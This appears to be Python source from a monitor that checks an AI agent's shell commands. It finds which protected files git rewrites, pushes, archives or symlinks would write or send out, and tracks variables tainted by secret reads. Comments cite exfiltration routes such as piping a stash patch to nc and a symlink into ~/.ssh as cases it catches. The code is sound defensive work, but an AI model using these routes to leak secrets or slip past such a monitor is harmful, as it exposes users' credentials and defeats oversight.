        folded = [_fold(p).rstrip("/") + "/" for p in spellings]
        return {zone for head, zone in self.heads for f in folded if f.startswith(head) or head.startswith(f)}


def _fold(text: str) -> str:
    return unicodedata.normalize("NFC", text).casefold()


class _Walk:
    """Reads of the disk for through_links, at most `limit` entries in all."""

    def __init__(self, limit: int) -> None:
        self.left = limit
        self.exhausted = False
        self.listed: dict[str, list[os.DirEntry[str]]] = {}   # a folder is read once a decision (many globs meet it)

    def entries(self, folder: str) -> list[os.DirEntry[str]]:
        if folder in self.listed:
            return self.listed[folder]
        try:
            with os.scandir(folder) as it:
                found = list(it)
        except OSError:
            found = []
        self.left -= len(found)
        if self.left < 0:
            self.exhausted = True
            found = []
        self.listed[folder] = found
        return found

    def expand(self, comps: tuple[Comp, ...]) -> list[str]:
        """The paths on disk a glob's components match now, as the shell walks them (through links), hidden names
        too; a `**` ends the walk at the folder it stands for."""
        paths = ["/"]
        for c in comps:
            if c.star2:
                break
            if not c.glob:
                paths = [os.path.join(p, c.text) for p in paths if os.path.lexists(os.path.join(p, c.text))]
                continue
            paths = [e.path for p in paths for e in self.entries(p) if c.matches(e.name, dot_rule=False)]
        return paths

    def links_under(self, folder: str) -> list[tuple[str, str]]:
        """(link, where it leads) for every symbolic link under `folder` that leads out of it (not followed)."""
        if not os.path.isdir(folder) or os.path.islink(folder):
            return []
        top = os.path.realpath(folder)
        out, stack = [], [folder]
        while stack and not self.exhausted:
            for e in self.entries(stack.pop()):
                if e.is_symlink():
                    target = os.path.realpath(e.path)
                    if target != top and not target.startswith(top.rstrip("/") + "/"):
                        out.append((e.path, target))
                elif e.is_dir(follow_symlinks=False):
                    stack.append(e.path)
        return out


def through_git(a: Analysis, zones: Zones, *, ask_git: bool) -> Analysis:
    """`a` with the files its git commands that rewrite their work tree (checkout, merge, stash pop...) would
    write, or that send or print committed files (push, archive, log -p, format-patch, bundle...) would read, as the
    repository says now (enforce/shell_git.py); where it cannot say, the whole work tree. A log or diff is asked
    about only where the command sends data out and it may print a file's content."""
    touched, notes = dict.fromkeys(a.touched), []
    repos: dict[str, Repository | Unresolved | None] = {}    # by working directory: each asked once a command
    for r in a.rewrites:
        label = "git " + " ".join(w if w is not None else "…" for w in (r.sub, *r.args))
        stash_shown = prints_stash(r.sub, r.args)
        if stash_shown and a.kind != SENDING_KIND:
            continue      # `git stash show -p` whose patch stays on this machine (`| nc` sends it: read below)
        if not stash_shown and None not in r.args and static_effect(r.sub, [w for w in r.args if w is not None]) == NO_CHANGE:
            notes.append(f"`{label[:80]}` leaves the work tree's files as they are")
            continue
        if r.sub in PRINTS and (a.kind != SENDING_KIND or not prints_content(r.sub, r.args)):
            continue      # what it prints stays on this machine (its files matter only to a command that sends data),
            #               or it prints no file's content (names, counts, messages)
        found, note, sends = _rewritten(r, zones, label, ask_git=ask_git, stash_shown=stash_shown, repos=repos)
        touched.update(dict.fromkeys((acc, z) for acc in (("read",) if sends else _GIT_WRITES) for z in found))
        notes.append(note)
    return replace(a, touched=ordered(touched), account=a.account + tuple(notes))


_GIT_WRITES = ("write", "delete")
_SHOWN = 8                     # files of a protected zone named in the account


def _rewritten(r: Rewrite, zones: Zones, label: str, *, ask_git: bool, stash_shown: bool,
               repos: dict[str, Repository | Unresolved | None]) -> tuple[list[str], str, bool]:
    """The zones the rewrite `r` may write files of (or send: the third value, true for a push, an archive, a log or
    patch, a stash shown (`stash_shown`), and for an alias of one), and how that was found; ExtractionError when
    nothing can say. `repos`: the repositories the command's earlier git steps found, by working directory."""
    def refuse(why: str, fix: str = "run it as a command of its own, in a known folder, with words known before "
               "it runs") -> ExtractionError:
        return ExtractionError("extract.shell.git", f"`{label[:120]}` may rewrite any file of its repository's work "
                               f"tree, and {why}; {fix}")
    def sends_any(why: str) -> tuple[list[str], str, bool]:    # whatever the work tree holds may be committed and sent
        assert r.cwd is not None
        found = _zones_of(zones, r.cwd, recursive=True)
        return found, f"`{label[:80]}` may send any file under {r.cwd}, as {why}: {', '.join(found)}", True
    sending = r.sub in SENDS or stash_shown
    if not ask_git and sending and r.cwd is not None:
        return sends_any("this monitor does not ask the repository which")
    if not ask_git:
        raise refuse("this monitor does not ask the repository which", "set ask_git = true on the spec's shell "
                     "extractors (the monitor must run on the machine the agent's commands run on)")
    if r.cwd is None:
        raise refuse("its working directory is not known")
    repo = _repository(repos, r.cwd)
    if sending and (isinstance(repo, Unresolved) or (repo is None and r.alone)):
        return sends_any(repo.reason if isinstance(repo, Unresolved) else f"no repository holds it now, while {r.alone}")
    if repo is None:
        if r.alone:
            raise refuse(f"no repository holds {r.cwd} now, while {r.alone}")
        return [], f"`{label[:80]}`: no repository holds {r.cwd}, so git refuses it", sending
    if isinstance(repo, Unresolved):
        raise refuse(f"the repository cannot be asked: {repo.reason}")

    base = _zones_of(zones, r.cwd)
    beyond = zones.beyond(base, repo.top)     # a repository names thousands of files: the fast test first
    why = r.alone or (None in r.args and "a word of it is not known before it runs") or ""
    run = resolved(repo, r.sub, [w for w in r.args if w is not None]) if not why else Unresolved(why)
    sends = sending or (not isinstance(run, Unresolved) and (
        run[0] in SENDS or prints_stash(*run)))
    paths = run if isinstance(run, Unresolved) else written(repo, *run, lambda p: beyond(os.path.normpath(p)))
    verb = "send" if sends else "write"
    if isinstance(paths, Unresolved):
        found = _zones_of(zones, repo.top, recursive=True)
        return found, (f"`{label[:80]}` may {verb} any file under {repo.top}, as {paths.reason}: "
                       f"{', '.join(found)}"), sends
    full = {p: os.path.normpath(repo.top + "/" + p) for p in sorted(paths)}
    protected = {p: _zones_of(zones, f, recursive=p.endswith("/")) for p, f in full.items() if p.endswith("/") or beyond(f)}
    for p, reached in _linked(zones, repo, paths).items():
        protected[p] = list(dict.fromkeys([*protected.get(p, []), *reached]))
    if sends:   # a committed file no zone names (the repository above the project) is no file on this disk
        protected = {p: [x for x in z if x != zones.unmatched] for p, z in protected.items()}
    protected = {p: z for p, z in protected.items() if not set(z) <= set(base)}
    shown = ", ".join(f"{p} ({', '.join(z)})" for p, z in list(protected.items())[:_SHOWN])
    return (list(dict.fromkeys([*base, *(z for zs in protected.values() for z in zs)])) if paths else [],
            f"`{label[:80]}` may {verb} {len(paths)} file(s) of {repo.top}, the repository says"
            + (f"; outside {', '.join(base)}: {shown}" if protected else ""), sends)


def _repository(repos: dict[str, Repository | Unresolved | None], cwd: str) -> Repository | Unresolved | None:
    """The repository of `cwd`, asked of git once a command (`repos`): each step gets its own list of sources and
    time limit (Repository.again)."""
    if cwd not in repos:
        repos[cwd] = Repository.find(cwd) if os.path.isdir(cwd) else None
    repo = repos[cwd]
    return repo.again() if isinstance(repo, Repository) else repo


def _linked(zones: Zones, repo: Repository, paths: set[str]) -> dict[str, list[str]]:
    """The zones each symbolic link among the files a rewrite writes leads to (a link made is a write of its target:
    `git checkout linkonly` makes keylink -> ~/.ssh), and all under it; the unresolved zone where git cannot say."""
    targets = link_targets(repo, {p for p in paths if not p.endswith("/")})
    if isinstance(targets, Unresolved):
        return {"(its symbolic links)": [zones.unresolved]}
    out: dict[str, list[str]] = {}
    for path, target in targets:
        where = os.path.realpath(os.path.join(repo.top, os.path.dirname(path), target))
        found = [z for z in _zones_of(zones, where, recursive=True) if z != zones.unmatched]
        if found:
            out[f"{path} -> {target}"] = found
    return out


def _zones_of(zones: Zones, path: str, *, recursive: bool = False) -> list[str]:
    """The zones of a literal path found on disk (and of all under it, `recursive`)."""
    return zones.of(split_pattern(_escape(path)) + ((STAR2,) if recursive else ()), dot_rule=True)


def _hard_links(path: str) -> int:
    """How many names the regular file at `path` has (0 when there is none)."""
    try:
        st = os.stat(path)
    except (OSError, ValueError):
        return 0
    return st.st_nlink if stat.S_ISREG(st.st_mode) else 0


def _leads_to(path: str, real_bases: list[tuple[str, str]]) -> str | None:
    """Where `path` leads on disk, when that is not where it reads lexically (a `..` in it is taken from where the
    name before it leads, as the kernel does); None when it is, or when a base folder reached through a link is the
    only link on the way."""
    try:
        real = os.path.realpath(path)
    except (OSError, ValueError):
        return None
    path = normalise(path)
    for base, real_base in real_bases:
        if path == base or path.startswith(base.rstrip("/") + "/"):
            return None if real in (real_base + path[len(base.rstrip("/")):], real_base) else real
    return real if real != path else None


def _unreadable(path: str) -> bool:
    """Whether a folder on the way of a `path` that climbs (`..` after a name) cannot be looked at (other than by
    not being there: the kernel then refuses the path too)."""
    if ".." not in path.split("/"):
        return False
    try:
        os.path.realpath(path, strict=True)
    except (FileNotFoundError, NotADirectoryError):
        return False
    except (OSError, ValueError):
        return True
    return False


def _check_workspace(workspace: str, home: str) -> None:
    """The workspace may be read, written and deleted at will, so it must be a project: `/`, the home folder or
    a folder above it would make every file of the user's a workspace file (their shell start-up files, their
    other projects)."""
    if workspace == "/" or workspace == home or home.startswith(workspace.rstrip("/") + "/"):
        what = "the root folder" if workspace == "/" else "the home folder" if workspace == home else "above the home folder"
        raise ExtractionError("extract.shell.workspace", f"the workspace {workspace} is {what}: every file under it "
                              "would count as the project's, free to change; run the agent in its project's folder")


def _absolute(value: Any, where: str) -> str:
    if not isinstance(value, str) or not value.startswith("/"):
        raise ExtractionError("extract.shell.path", f"{where} must be an absolute path, got {value!r}")
    check_text(value)
    return normalise(value)


def _optional(observation: Mapping[str, Any], path: str | None) -> Any:
    if not path:
        return None
    try:
        return _path(observation, path)
    except ExtractionError as e:
        if e.code == "extract.missing":
            return None
        raise


@dataclass(frozen=True)
class ShellExtractor:
    """One argument (`part` = "command" or "touched") of the shell_agent policy from a shell command."""

    part: str
    type: Mapping[str, Any]
    commands: CommandTable
    zones: ZoneMap
    field: str = "command"
    cwd: str = "cwd"
    home: str = "home"
    approved: str | None = "approved"
    workspace: str | None = "workspace"
    tmp: str | None = "tmp"
    kind: str = "shell"
    follow_links: bool = False
    ask_git: bool = False
    places: Places = ()          # the paths the monitor protects (Monitor.from_build sets them)
    # with track_copies, each command's Analysis.copies and .sends (`touched`) and .unfollowed (`command`) by its text,
    # filled by extract (the Claude Code hook records them)
    track_copies: bool = False
    copies: dict[str, tuple[str, ...]] = _field(default_factory=dict, compare=False, hash=False, repr=False)
    sends: dict[str, tuple[str, ...]] = _field(default_factory=dict, compare=False, hash=False, repr=False)
    unfollowed: dict[str, bool] = _field(default_factory=dict, compare=False, hash=False, repr=False)
    # names of shell variables that hold what an earlier command read of the project's secrets, in a shell kept across
    # commands (the Claude Code hook's state fills them for its session): their expansion reads that zone
    tainted: tuple[str, ...] = ()
    background: dict[str, bool] = _field(default_factory=dict, compare=False, hash=False, repr=False)
    sourced: dict[str, tuple[str, ...]] = _field(default_factory=dict, compare=False, hash=False, repr=False)

    def extract(self, observation: Mapping[str, Any]) -> Extracted:
        text = _path(observation, self.field)
        if not isinstance(text, str):
            raise ExtractionError("extract.type", f"{self.field!r} must be the command text, got "
                                  f"{type(text).__name__}")
        cwd = _absolute(_path(observation, self.cwd), self.cwd)
        home = _absolute(_path(observation, self.home), self.home)
        ws = _optional(observation, self.workspace)
        tmp = _optional(observation, self.tmp)
        workspace = _absolute(ws, str(self.workspace)) if ws is not None else cwd
        tmpdir = _absolute(tmp, str(self.tmp)) if tmp is not None else "/tmp"
        raw = _optional(observation, self.approved)
        approved = False if raw is None else _coerce(raw, {"kind": "bool"}, str(self.approved))
        touched = self.part == "touched"     # the command's class depends on what it brings, not on links or git
        a = analyse(text, cwd=cwd, home=home, workspace=workspace, tmp=tmpdir, commands=self.commands,
                    zones=self.zones, follow_links=self.follow_links and touched, ask_git=self.ask_git,
                    rewrites=touched, places=self.places, content=self.follow_links,
                    copies=self.track_copies and touched, tainted=self.tainted)
        if self.track_copies and touched:
            self.copies[text], self.sends[text], self.background[text] = a.copies, a.sends, a.background
            self.sourced[text] = a.sourced
        if self.track_copies and not touched:
            self.unfollowed[text] = a.unfollowed
        if self.part == "command":
            value: Any = {"kind": a.kind, "sudo": a.sudo, "pipes_to_shell": a.pipes_to_shell, "approved": approved}
        else:
            value = [list(p) for p in a.touched]
        return Extracted(_typed(value, self.type, self.part), a.how, 1.0, self.kind)


_CFG_KEYS = {"from", "field", "part", "cwd", "home", "approved", "workspace", "tmp", "commands", "zones",
             "follow_links", "ask_git"}


def build_shell_extractor(cfg: Mapping[str, Any], arg_type: Mapping[str, Any], base: Path, *,
                          places: Places = (), files: SpecFiles | None = None) -> Extractor:
    """The extractor for one [extraction] entry `{ from = "shell", part = ..., commands = ..., zones = ... }`;
    its tables are read from `base`, or, in a build, are the certified bytes in `files`."""
    extra = sorted(set(cfg) - _CFG_KEYS)
    if extra:
        raise ExtractionError("extract.config", f"shell extractor: unknown key(s) {extra}; allowed: "
                              f"{sorted(_CFG_KEYS)}")
    part = cfg.get("part")
    if part not in ("command", "touched"):
        raise ExtractionError("extract.config", f"shell extractor: part must be \"command\" or \"touched\", "
                              f"got {part!r}")
    for key in ("commands", "zones"):
        if not isinstance(cfg.get(key), str):
            raise ExtractionError("extract.config", f"shell extractor: {key} must name a file in the spec's folder")
    commands = spec_file(files, cfg["commands"], "the shell extractor's commands table")
    zones = spec_file(files, cfg["zones"], "the shell extractor's zone map")
    table = load_commands(base / cfg["commands"], lazy=True, data=commands)  # checked in full by eval and the tests
    if part == "command":
        _check_command_type(arg_type, table)
        zmap = load_zones(base / cfg["zones"], data=zones)
    else:
        accesses, zone_names = _check_touched_type(arg_type)
        zmap = load_zones(base / cfg["zones"], zone_names, data=zones)
        missing = sorted(set(ACCESSES) - accesses)
        if missing:
            raise ExtractionError("extract.config", f"shell extractor: the spec's access type lacks {missing}")
    strings = {k: cfg[k] for k in ("field", "cwd", "home", "approved", "workspace", "tmp") if k in cfg}
    for k, v in strings.items():
        if not isinstance(v, str):
            raise ExtractionError("extract.config", f"shell extractor: {k} must be a field path, got {v!r}")
    flags = {k: cfg.get(k, False) for k in ("follow_links", "ask_git")}
    for k, v in flags.items():
        if not isinstance(v, bool):
            raise ExtractionError("extract.config", f"shell extractor: {k} must be true or false, got {v!r}")
    return ShellExtractor(part, arg_type, table, zmap, **strings, **flags, places=places)


def _check_command_type(t: Mapping[str, Any], table: CommandTable) -> None:
    fields = dict(t.get("fields", [])) if t.get("kind") == "record" else {}
    want = {"kind", "sudo", "pipes_to_shell", "approved"}
    if set(fields) != want:
        raise ExtractionError("extract.config", f"shell extractor: part \"command\" fills a record with fields "
                              f"{sorted(want)}, the spec's type has {sorted(fields)}")
    kinds = fields["kind"].get("values", [])
    if set(kinds) != set(table.class_order):
        raise ExtractionError("extract.config", f"{table.path}: class_order {list(table.class_order)} must list "
                              f"exactly the spec's classes {kinds}")


def _check_touched_type(t: Mapping[str, Any]) -> tuple[set[str], set[str]]:
    elem = t.get("elem", {}) if t.get("kind") == "list" else {}
    items = elem.get("items", []) if elem.get("kind") == "tuple" else []
    if len(items) != 2 or any(i.get("kind") != "enum" for i in items):
        raise ExtractionError("extract.config", "shell extractor: part \"touched\" fills a list of (access, zone) "
                              "enum pairs")
    return set(items[0]["values"]), set(items[1]["values"])
